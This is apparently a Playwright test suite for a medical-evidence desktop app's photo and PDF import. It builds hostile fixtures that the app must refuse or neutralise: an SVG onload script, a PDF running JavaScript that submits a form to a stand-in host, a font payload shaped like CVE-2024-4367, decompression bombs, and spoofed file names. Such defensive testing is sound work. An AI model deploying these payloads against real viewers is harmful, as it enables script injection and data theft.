// Photographs and papers in the real app (F56, F57): what the sandbox draws of sound and of hostile files, the camera, the screens.
import { expect, test } from '@playwright/test'
import { linkSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { foldForm, openPlaces } from '../../shared/fold/form'
import type { RowId, SectionId } from '../../shared/model/ids'
import { readHead } from '../../electron/sections/picture-head'
import type { RunningApp } from '../harness/launch'
import { adobe, chart, comment, exif, hugePng, jpeg, movingPng, paper, pdf, png, scan, webp, webpHead, ycc, type Colour } from '../harness/pictures'
import { Officer } from '../harness/flow'
import { shippedForms } from '../harness/forms'
import { cast } from '../harness/people'
import { ask, chooseAlways, codeOf, must, switchTo, write, type Room } from '../harness/room'
import { launchRoom } from '../harness/template'
import { forApp } from '../harness/world'
import { mediaBytes } from './stage'

let running: RunningApp & { room: Room }
const shots = process.env.SAYONCE_SHOTS
const red: Colour = [200, 30, 30]
const green: Colour = [30, 160, 30]

test.beforeAll(async () => {
  test.setTimeout(240_000)
  running = await launchRoom({ as: 'medic', env: { SAYONCE_TRACE: '1' } })
})
test.afterAll(async () => { await running?.kill9() })

const folder = () => join(running.world, 'camera')
function put(name: string, bytes: Buffer): string {
  mkdirSync(folder(), { recursive: true })
  forApp(folder())
  const path = join(folder(), name)
  writeFileSync(path, bytes)
  return forApp(path)
}

/** The bytes under an address, and colours of points (0 to 1) of the picture as the room window decodes it. */
async function seen(address: string, points: readonly (readonly [number, number])[]): Promise<{ bytes: Buffer; width: number; height: number; colours: number[][] }> {
  const bytes = await mediaBytes(running, address)
  const drawn = await running.page.evaluate(async ({ address, points }) => {
    const image = new Image()
    image.crossOrigin = 'anonymous'
    image.src = address
    await image.decode()
    const canvas = new OffscreenCanvas(image.naturalWidth, image.naturalHeight)
    const context = canvas.getContext('2d')!
    context.drawImage(image, 0, 0)
    return { width: image.naturalWidth, height: image.naturalHeight, colours: points.map(([x, y]) => [...context.getImageData(Math.floor(x * (image.naturalWidth - 1)), Math.floor(y * (image.naturalHeight - 1)), 1, 1).data].slice(0, 3)) }
  }, { address, points })
  return { bytes, ...drawn }
}
const near = (a: readonly number[], b: readonly number[]) => a.every((v, i) => Math.abs(v - b[i]!) <= 14)
const metadata = (bytes: Buffer) => ['Exif', 'GPS', 'ICC_PROFILE', 'script', 'http', 'Photoshop', 'Adobe'].filter((word) => bytes.includes(word))

/** As the medic: what the child's side agreed to (F52). */
async function agree(...said: readonly (readonly [string, boolean | string])[]): Promise<void> {
  for (const [field, value] of said) await must(running.page, 'log', 'append', { sectionId: running.room.sections.medical, fact: { kind: 'form.answer', body: { formId: 'examination', version: 1, field, answer: { state: 'value', value } } } })
}

async function takeIn(sectionId: SectionId, paths: readonly string[], wish: object = {}): Promise<{ taken: readonly string[]; refused: Record<string, string> }> {
  await chooseAlways(running.app, paths)
  const answer = await must(running.page, 'photographs', 'import', { sectionId, shot: 'document', scale: false, label: '', row: null, why: '', ...wish } as never)
  await chooseAlways(running.app, null)
  return { taken: answer!.taken, refused: Object.fromEntries(answer!.refused.map(({ name, code }) => [name, code])) }
}
const show = (sectionId: SectionId, itemId: string, page = 0) => must(running.page, 'photographs', 'open', { sectionId, itemId, page, purpose: null, reason: '' } as never)

test('XD4 XD5 XD7 pictures: drawn anew without metadata and the right way up; links, bombs, moving and false ones are refused by name', async () => {
  test.setTimeout(180_000)
  const sectionId = running.room.sections.medical
  const halves = (across: number, down: number) => jpeg({ across, down, at: (x) => ycc(x < across / 2 ? red : green), segments: [exif({ orientation: 6 }), comment('http://nowhere.invalid/'), adobe(1)] })
  const good = [
    put('colours.png', chart(64)), put('turned.jpg', halves(8, 4)), put('cmyk.jpg', jpeg({ across: 4, down: 4, at: () => [0, 225, 225, 255], segments: [adobe(0)] })),
    put('point.webp', webp()), put('called-png.png', halves(4, 4)), put('large.png', png(5000, 40, () => green)), put('CON.png', chart()), put('\u202Egnp.exe\u2066 name.png', chart()), put(`${'长'.repeat(80)}.png`, chart()),
    // As large as is taken, and far more behind the points than they need.
    put('largest.png', hugePng(7000, 7000, 7000 * 21_001)), put('bomb.png', hugePng(100, 100, 100_000_000)),
  ]
  const secret = put('secret.png', chart())
  const linked = join(folder(), 'linked.png')
  symlinkSync(secret, linked)
  const second = join(folder(), 'second-name.png')
  const twice = put('twice.png', chart())
  linkSync(twice, second)
  const bad: Record<string, [string, string]> = {
    'wide.png': [put('wide.png', hugePng(30_000, 30_000)), 'E-F2'], 'moving.png': [put('moving.png', movingPng()), 'E-F1'], 'moving.webp': [put('moving.webp', webpHead(2, 10, 10)), 'E-F1'],
    'drawing.svg': [put('drawing.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')), 'E-F1'], 'page.jpg': [put('page.jpg', Buffer.from('<html><script>alert(1)</script>')), 'E-F1'], 'cut.jpg': [put('cut.jpg', halves(8, 4).subarray(0, 60)), 'E-F3'],
    'lossless.jpg': [put('lossless.jpg', jpeg({ across: 2, down: 2, at: () => [1], marker: 0xc3 })), 'E-F3'], 'empty.png': [put('empty.png', Buffer.alloc(0)), 'E-F1'], 'linked.png': [linked, 'E-F4'], 'second-name.png': [second, 'E-F4'], 'room.db': [join(running.world, 'vault', 'room.db'), 'E-F4'],
  }
  const began = Date.now()
  const { taken, refused } = await takeIn(sectionId, [...good, ...Object.values(bad).map(([path]) => path)])
  test.info().annotations.push({ type: 'figure', description: `${good.length + Object.keys(bad).length} files in ${Date.now() - began} ms` })
  expect(refused).toEqual(Object.fromEntries(Object.entries(bad).map(([name, [, code]]) => [name, code])))
  expect(taken).toHaveLength(good.length)
  const list = await must(running.page, 'photographs', 'list', { sectionId })
  expect(list.map((p) => p.original.mimeType)).toEqual(['image/png', 'image/jpeg', 'image/jpeg', 'image/webp', 'image/jpeg', 'image/png', 'image/png', 'image/png', 'image/png', 'image/png', 'image/png'])
  // Names are not kept: nothing of a path or a name stands in what is known of a photograph.
  expect(JSON.stringify(list)).not.toMatch(/camera|CON|exe|长/)
  expect(list[1]!.takenAt).toBe('2026-02-03 09:41:12')
  const corners = [[0.1, 0.1], [0.9, 0.1], [0.1, 0.9], [0.9, 0.9]] as const
  const pictures = []
  for (const itemId of taken) pictures.push(await seen((await show(sectionId, itemId)).url, corners))
  for (const picture of pictures) expect([readHead(picture.bytes).mimeType, metadata(picture.bytes)]).toEqual(['image/jpeg', []])
  expect(pictures[0]!.colours.every((colour, i) => near(colour, [red, green, [30, 30, 200], [128, 128, 128]][i]!)), JSON.stringify(pictures[0]!.colours)).toBe(true)
  // Orientation 6: what was left is up.
  expect([pictures[1]!.width, pictures[1]!.height]).toEqual([32, 64])
  expect(near(pictures[1]!.colours[0]!, red) && near(pictures[1]!.colours[1]!, red) && near(pictures[1]!.colours[2]!, green), JSON.stringify(pictures[1]!.colours)).toBe(true)
  // Stored inverted, as Adobe's programs do: all of the cyan, little of the others.
  expect(near(pictures[2]!.colours[0]!, [0, 225, 225]), JSON.stringify(pictures[2]!.colours)).toBe(true)
  expect([pictures[5]!.width, pictures[5]!.height]).toEqual([4096, 33])
  expect([pictures[9]!.width, pictures[9]!.height]).toEqual([4096, 4096])
  // Nothing in clear beside the vault: neither what was chosen nor what was drawn.
  const files = (await readdir(running.profile, { recursive: true, withFileTypes: true })).filter((f) => f.isFile()).map((f) => join(f.parentPath, f.name))
  expect(files.filter((file) => file.includes('blob_storage'))).toEqual([])
  const marks = [Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR', 'latin1'), Buffer.from('\xff\xd8\xff\xe0\0\x10JFIF', 'latin1')]
  for (const file of files) expect(((bytes) => marks.some((mark) => bytes.includes(mark)))(await readFile(file).catch(() => Buffer.alloc(0))), file).toBe(false)
})

test('XD8 papers: pages are drawn without a script, a font or a file of theirs doing anything; broken and endless ones are refused or cut', async () => {
  test.setTimeout(240_000)
  const sectionId = running.room.sections.samples
  await running.page.evaluate(() => { (globalThis as { hit?: number }).hit = 0 })
  const script = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://nowhere.invalid/"\\)) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >> /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) >>] >> >>'
  // The shape of CVE-2024-4367: a font whose matrix closes the function that older versions of pdf.js made of it.
  const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Odd /FirstChar 65 /LastChar 65 /Widths [600] /FontMatrix [0.001 0 0 0.001 0 (0\\); fetch\\("sayonce://app/index.html"\\); document.title="taken"; //)] /FontDescriptor << /Type /FontDescriptor /FontName /Odd /Flags 4 /FontBBox [0 0 600 600] /ItalicAngle 0 /Ascent 600 /Descent 0 /CapHeight 600 /StemV 80 >> >>'
  const good = [
    put('report.pdf', paper(['0.8 0.1 0.1', '0.1 0.6 0.1'])), put('script.pdf', paper(['0 0 1'], { catalogue: script })), put('font.pdf', paper(['1 1 0'], { more: [font] })), put('no-table.pdf', paper(['0 1 1'], { xref: false })),
    put('long.pdf', paper(Array.from({ length: 10_000 }, () => '0.5 0.5 0.5'))), put('a4-600dpi.pdf', scan(4960, 7016)),
  ]
  const bad: Record<string, [string, string]> = {
    // Never taken as an empty page: a picture above the limit, and one that cannot be read.
    'a3-600dpi.pdf': [put('a3-600dpi.pdf', scan(7016, 9933)), 'E-F2'], 'no-picture.pdf': [put('no-picture.pdf', scan(100, 100, { broken: true })), 'E-F3'],
    'nothing.pdf': [put('nothing.pdf', Buffer.from('%PDF-1.7\nnothing at all')), 'E-F3'],
    'circle.pdf': [put('circle.pdf', pdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>'])), 'E-F3'],
    'locked.pdf': [put('locked.pdf', Buffer.from(paper(['0 0 0']).toString('latin1').replace('/Root 1 0 R', `/Root 1 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> /P -4 >>`), 'latin1')), 'E-F3'],
  }
  const began = Date.now()
  const { taken, refused } = await takeIn(sectionId, [...good, ...Object.values(bad).map(([path]) => path)])
  test.info().annotations.push({ type: 'figure', description: `${good.length + Object.keys(bad).length} papers in ${Date.now() - began} ms` })
  expect(refused).toEqual(Object.fromEntries(Object.entries(bad).map(([name, [, code]]) => [name, code])))
  const list = await must(running.page, 'photographs', 'list', { sectionId })
  expect(list.map((p) => [p.shown.length, p.pages ?? p.shown.length])).toEqual([[2, 2], [1, 1], [1, 1], [1, 1], [50, 10_000], [1, 1]])
  const page = async (i: number, n: number) => seen((await show(sectionId, taken[i]!, n)).url, [[0.5, 0.5]])
  for (const [i, n, colour] of [[0, 0, [204, 26, 26]], [0, 1, [26, 153, 26]], [1, 0, [0, 0, 255]], [2, 0, [255, 255, 0]], [4, 49, [128, 128, 128]], [5, 0, [0, 0, 0]]] as const) {
    const drawn = await page(i, n)
    expect(near(drawn.colours[0]!, colour), `${i}/${n} ${JSON.stringify(drawn.colours)}`).toBe(true)
    expect([drawn.height, metadata(drawn.bytes)]).toEqual([2400, []])
  }
  // No decoding window is left behind, and nothing was asked of a network.
  expect(await running.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().filter((w) => w.webContents.getURL().includes('decode')).length)).toBe(0)
  expect(running.output()).not.toContain('request-blocked')
})

test('XE1 the decoding window has its own four calls, a process of its own, no camera, no media, no network; the other windows have none of its calls', async () => {
  const { page, app, room } = running
  expect(await page.evaluate(() => 'decode' in window.sayonce || 'capture' in window.sayonce)).toBe(false)
  await app.evaluate(({ app, BrowserWindow }) => {
    const seen = globalThis as unknown as { inDecode: Promise<unknown> }
    seen.inDecode = new Promise((done) => {
      app.once('web-contents-created', (_event, contents) => {
        contents.once('dom-ready', () => {
          const ask = `(async () => {
            const name = (work) => work.then(() => 'ok', (e) => e.name)
            return [Object.keys(sayonce), Object.keys(sayonce.decode).sort(), await name(navigator.mediaDevices.getUserMedia({ video: true })), await name(fetch('sayonce://media/x')), await name(fetch('https://nowhere.invalid/')),
              (() => { try { return String(eval('1')) } catch (e) { return e.name } })()]
          })()`
          void contents.executeJavaScript(ask, true).then((answers: unknown) => done([contents.getOSProcessId() !== BrowserWindow.fromId(1)!.webContents.getOSProcessId(), ...(answers as unknown[])]), (error: unknown) => done(String(error)))
        })
      })
    })
  })
  // Long enough to be looked at.
  await takeIn(room.sections.samples, [put('slow.pdf', paper(Array.from({ length: 10_000 }, () => '0.2 0.2 0.2')))])
  expect(await app.evaluate(() => (globalThis as unknown as { inDecode: Promise<unknown> }).inDecode)).toEqual([true, ['decode'], ['done', 'failed', 'job', 'page'], 'NotAllowedError', 'TypeError', 'TypeError', 'EvalError'])
})

test('F56 F57 the screens: label first, a still of the camera, the order watched, a photograph looked at by keyboard, the envelope only as a blur', async () => {
  test.setTimeout(120_000)
  const { page, app, room } = running
  const at = (id: string | RegExp) => page.getByTestId(id)
  const shot = async (name: string) => { if (shots) await page.screenshot({ path: `${shots}/photographs-${name}.png` }) }
  await switchTo(page, 'recorder')
  expect(codeOf(await ask(page, 'photographs', 'import', { sectionId: room.sections.medical, shot: 'label', scale: false, label: '', row: null, why: '' })), 'F56 only a medic').toBe('E-B3')
  await switchTo(page, 'medic')
  await agree(['consent-photographs', true])
  const { taken } = await takeIn(room.sections.medical, [put('first.png', chart(64)), put('second.png', chart(32))])
  await must(page, 'session', 'lock', { cause: 'person' })
  await page.setViewportSize({ width: 1366, height: 768 })
  const officer = new Officer(app, page)
  await officer.unlock(cast.medic)
  await officer.openCaseFromList(room.number)
  await officer.go('medical')
  // F52: nobody was asked yet. What was agreed to alone needs no reason.
  await expect(at('envelope-fault')).toHaveAttribute('data-fault', 'forbidden')
  await expect(at('envelope-camera')).toBeDisabled()
  await shot('unagreed')
  await agree(['consent-intimate', 'yes'])
  await expect(at('envelope-fault')).toBeHidden()
  // The envelope has an order of its own, and nothing in it yet.
  await expect(at('envelope-shot-label')).toHaveAttribute('data-chosen', 'true')
  await at('envelope-shot-close').click()
  await expect(at('envelope-fault')).toHaveAttribute('data-fault', 'label')
  await expect(at('envelope-camera')).toBeDisabled()
  await at('envelope-shot-label').click()
  await at('envelope-id-label').click()
  await expect(at('id-label')).toContainText(room.number)
  await shot('label')
  await at('id-label-close').click()
  await at('envelope-camera').click()
  await expect(at('camera-dialog')).toHaveAttribute('data-state', 'live')
  await page.keyboard.press('Space')
  await expect(at('camera-still')).toBeVisible()
  await shot('camera')
  await page.keyboard.press('Enter')
  await expect(at(/^envelope-item-/)).toHaveCount(1, { timeout: 20_000 })
  await expect(at('camera-dialog')).toBeHidden()
  // The next of the series is offered; another one needs its reason, which stays with the photograph.
  await expect(at('envelope-shot-overview')).toHaveAttribute('data-chosen', 'true')
  await at('envelope-shot-close').click()
  await expect(at('envelope-fault')).toHaveAttribute('data-fault', 'overview')
  await at('envelope-why').fill('孩子只同意拍这一张')
  await at('envelope-scale').click()
  await at('envelope-label').fill('左前臂 1')
  await chooseAlways(app, [put('close.png', chart(96)), put('bad\u202E.svg', Buffer.from('<svg/>'))])
  await at('envelope-put').click()
  await expect(at('envelope-taken')).toHaveAttribute('data-taken', '1')
  await expect(at('envelope-taken')).toContainText('E-F1')
  await expect(at(/^envelope-item-/)).toHaveCount(2)
  await at(/^envelope-item-/).last().scrollIntoViewIfNeeded()
  await expect(at(/^envelope-item-/).last()).toContainText('孩子只同意拍这一张')
  // Twelve points at most: not the picture under a veil, but no picture at all.
  const blur = at(/^envelope-item-/).last().locator('img')
  await expect.poll(() => blur.evaluate((img: HTMLImageElement) => Math.max(img.naturalWidth, img.naturalHeight))).toBe(12)
  await at('envelope').scrollIntoViewIfNeeded()
  await shot('envelope')
  await at(/^envelope-open-/).last().click()
  await expect(at('envelope-ok')).toBeDisabled()
  await at('envelope-reason').fill('复核伤情')
  await at('envelope-ok').click()
  const image = at('envelope-image')
  await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(96)
  await expect(at('watermark')).toHaveAttribute('data-text', new RegExp(cast.medic.name))
  await shot('envelope-open')
  await page.keyboard.press('Escape')
  await expect(at('envelope-picture')).toBeHidden()
  await expect(at(/^envelope-item-/).last()).toContainText('打开过 1 次')
  // Those outside the envelope: in a grid, opened at a click, the next by key.
  await at('photographs-medical').scrollIntoViewIfNeeded()
  await shot('grid')
  await at(`photo-open-${taken[0]}`).click()
  await expect.poll(() => at('envelope-image').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(64)
  await page.keyboard.press('ArrowRight')
  await expect.poll(() => at('envelope-image').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(32)
  await shot('open')
  await page.keyboard.press('Escape')
  await page.setViewportSize({ width: 1920, height: 1080 })
  await at('photographs-medical').scrollIntoViewIfNeeded()
  await shot('wide')
})

/** Signs a section in which nothing more is to be asked: what is required and open is noted as refused. */
async function signAll(kind: 'samples' | 'medical'): Promise<void> {
  const { page, room } = running
  const sectionId = room.sections[kind]
  for (const form of shippedForms().current.filter(({ section }) => section === kind)) {
    for (let round = 0; round < 4; round++) {
      const open = openPlaces(form, foldForm(await must(page, 'log', 'read', { sectionId }), form.id))
      for (const place of open) {
        const [row, field] = place.includes('/') ? place.split('/') as [RowId, string] : [null, place]
        await write(page, sectionId, { kind: 'form.answer', body: { formId: form.id, version: form.version, field, ...(row ? { row } : {}), answer: { state: 'refused' } } })
      }
      if (open.length === 0) break
    }
  }
  await must(page, 'sections', 'sign', { sectionId })
}

test('F56 F57 F58 F63 the scan of a report comes into signed samples with its result, photographs of a review by themselves; they wait over a lock; the envelope takes none', async () => {
  test.setTimeout(120_000)
  const { page, app, room } = running
  const at = (id: string | RegExp) => page.getByTestId(id)
  const officer = new Officer(app, page)
  const both = async (name: string) => {
    if (!shots) return
    for (const language of ['zh', 'en'] as const) {
      await officer.language(language)
      for (const [width, height] of [[1366, 768], [1920, 1080]] as const) {
        await officer.resize(width, height)
        await page.screenshot({ path: `${shots}/photographs-${name}-${language}-${width}.png` })
      }
    }
    await officer.language('zh')
    await officer.resize(1366, 768)
  }
  await agree(['consent-photographs', true])
  await signAll('samples')
  await signAll('medical')
  await must(page, 'session', 'lock', { cause: 'person' })
  await officer.unlock(cast.medic)
  await officer.openCaseFromList(room.number)
  const had = (await must(page, 'photographs', 'list', { sectionId: room.sections.samples })).length
  await officer.go('samples')
  await at('form-group-results').click()
  await at('later-add').click()
  for (const [key, value] of [['laboratory', '云溪虚构鉴定中心'], ['report-no', '云溪鉴字 12'], ['result-at', '2026-11-20'], ['result', '未检出可供比对的成分。']] as const) await at(`field-${key}-input`).fill(value)
  await at('field-result-of-unknown').click()
  await at('field-report-papers-input-add').click()
  await at('pick-shot-document').click()
  await at('pick-label').fill('鉴定意见书')
  await chooseAlways(app, [put('report.pdf', paper(['0.9 0.9 0.9', '0.7 0.7 0.7']))])
  await at('pick-put').click()
  await expect(at('pick-taken')).toHaveAttribute('data-taken', '1')
  await expect(at('field-report-papers-input')).toHaveAttribute('data-count', '1')
  if (shots) await page.screenshot({ path: `${shots}/photographs-later-pick.png` })
  await at('field-report-papers-input-ok').click()
  await expect(at('field-report-papers-input')).toContainText('等待签名')
  await at('field-report-papers-input').scrollIntoViewIfNeeded()
  await both('later-draft')
  expect(await must(page, 'photographs', 'list', { sectionId: room.sections.samples })).toHaveLength(had)
  await at('later-sign').click()
  await expect(at('addenda')).toContainText(`补充了照片 ${had + 1}`)
  await expect(at('addenda')).toContainText('结果 1')
  await expect(at('sealed')).toHaveAttribute('data-holds', 'true')
  await at('sealed').scrollIntoViewIfNeeded()
  await both('later-sealed')
  expect((await must(page, 'photographs', 'list', { sectionId: room.sections.samples })).at(-1)).toMatchObject({ label: '鉴定意见书', later: true, shown: [{}, {}] })

  // A review: by themselves, looked at before they are signed, one thrown away; the lock loses none.
  await officer.go('medical')
  await expect(at('envelope-sealed')).toBeVisible()
  await expect(at('envelope-put')).toHaveCount(0)
  await at('photo-later').click()
  await at('photo-shot-label').click()
  await chooseAlways(app, [put('review-1.png', chart(64)), put('review-2.png', chart(48))])
  await at('photo-put').click()
  await expect(at('photo-waiting')).toHaveAttribute('data-count', '2')
  await at('photo-waiting').scrollIntoViewIfNeeded()
  await both('later-waiting')
  await must(page, 'session', 'lock', { cause: 'idle' })
  await officer.unlock(cast.medic)
  await officer.openCaseFromList(room.number)
  await officer.go('medical')
  await expect(at('photo-waiting')).toHaveAttribute('data-count', '2')
  const files = async () => (await readdir(join(running.world, 'vault', 'media'))).filter((name) => name.startsWith(room.sections.medical)).length
  const before = await files()
  await at(/^photo-discard-itm/).last().click()
  await at('photo-discard-ok').click()
  await expect(at('photo-waiting')).toHaveAttribute('data-count', '1')
  expect(await files()).toBe(before - 1)
  await at('photo-later-sign').click()
  await expect(at('photo-waiting')).toHaveCount(0)
  await expect(at('photographs-medical').getByTestId('later-mark')).toHaveCount(1)
  await expect(at('sealed')).toHaveAttribute('data-holds', 'true')
  await at('photographs-medical').scrollIntoViewIfNeeded()
  await both('later-grid')
})
